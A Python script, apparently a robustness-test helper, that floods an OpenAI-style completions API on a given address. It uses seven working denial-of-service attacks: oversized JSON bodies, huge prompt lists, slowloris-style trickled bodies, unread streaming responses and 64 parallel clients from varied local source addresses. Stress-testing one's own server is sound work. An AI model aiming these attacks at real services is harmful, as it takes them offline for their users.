"""Attacks on the API for guests: `python guest_attacks.py ADDRESS ATTACK SECONDS`, in a process of its own."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import sys
import threading
import time
from collections.abc import Callable

CHAT, TEXT = "/v1/chat/completions", "/v1/completions"
MESSAGES = [{"role": "user", "content": "hi"}]
PATIENCE_S = 30.0


class Target:
    """The address under attack, until a time."""

    def __init__(self, address: str, seconds: float) -> None:
        host, _, port = address.rpartition(":")
        self._to = (host, int(port))
        self._end_s = time.monotonic() + seconds

    @property
    def is_open(self) -> bool:
        return time.monotonic() < self._end_s

    def connect(self, source: str = "", unread: bool = False) -> socket.socket:
        connection = socket.socket()
        connection.settimeout(PATIENCE_S)
        if unread:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        if source:
            connection.bind((source, 0))
        connection.connect(self._to)
        return connection

    def head(self, path: str, num_bytes: int) -> bytes:
        return (
            f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
            f"Content-Length: {num_bytes}\r\n\r\n"
        ).encode()

    def send(self, connection: socket.socket, path: str, body: bytes) -> None:
        connection.sendall(self.head(path, len(body)) + body)

    def repeat(self, path: str, body: bytes, at_once: int = 2) -> None:
        """Send the same request again and again."""

        def one() -> None:
            while self.is_open:
                try:
                    with self.connect() as connection:
                        self.send(connection, path, body)
                        connection.recv(1000)
                except OSError:
                    time.sleep(0.05)

        _at_once(one, at_once)


def _at_once(act: Callable[[], None], number: int) -> None:
    threads = [threading.Thread(target=act, daemon=True) for _ in range(number)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def bad_content(target: Target) -> None:
    body = '{"model":"mine","messages":[{"role":"user","content":[' + ",".join(["1"] * (2**21 - 100)) + "]}]}"
    target.repeat(CHAT, body.encode())


def many_values(target: Target) -> None:
    """Nearly as many as are decoded."""
    target.repeat(TEXT, ('{"model":"mine","prompt":[' + ",".join(['"a"'] * 240_000) + "]}").encode())


def long_prompts(target: Target) -> None:
    target.repeat(TEXT, json.dumps({"model": "mine", "prompt": "ab " * 1_300_000}).encode(), 3)


def full_prompts(target: Target) -> None:
    """Prompts that only just fit, many in each request, for one token each."""
    prompts = [f"{number:03}" + "ab " * 150 for number in range(128)]
    target.repeat(TEXT, json.dumps({"model": "mine", "prompt": prompts, "max_tokens": 1}).encode(), 4)


def slow_bodies(target: Target) -> None:
    connections = []
    for _ in range(100):
        connection = target.connect()
        connection.sendall(target.head(CHAT, 4000))
        connections.append(connection)
    while target.is_open:
        for connection in connections:
            with contextlib.suppress(OSError):
                connection.sendall(b" ")
        time.sleep(0.5)


def unread_streams(target: Target) -> None:
    body = json.dumps({"model": "mine", "messages": MESSAGES, "n": 128, "stream": True}).encode()
    connections = []
    for _ in range(30):
        connection = target.connect(unread=True)
        target.send(connection, CHAT, body)
        connections.append(connection)
    while target.is_open:
        time.sleep(0.1)


def many_clients(target: Target) -> None:
    body = json.dumps({"model": "mine", "messages": MESSAGES, "n": 128}).encode()
    numbers = iter(range(2, 66))

    def one() -> None:
        source = f"127.0.0.{next(numbers)}"
        while target.is_open:
            try:
                with target.connect(source) as connection:
                    connection.settimeout(max(0.1, target._end_s - time.monotonic()))
                    target.send(connection, CHAT, body)
                    connection.recv(1000)
            except OSError:
                time.sleep(0.05)

    _at_once(one, 64)


ATTACKS: dict[str, Callable[[Target], None]] = {
    attack.__name__: attack
    for attack in (bad_content, many_values, long_prompts, full_prompts, slow_bodies, unread_streams, many_clients)
}


if __name__ == "__main__":
    os.nice(10)  # an attacker is on another machine
    ATTACKS[sys.argv[2]](Target(sys.argv[1], float(sys.argv[3])))
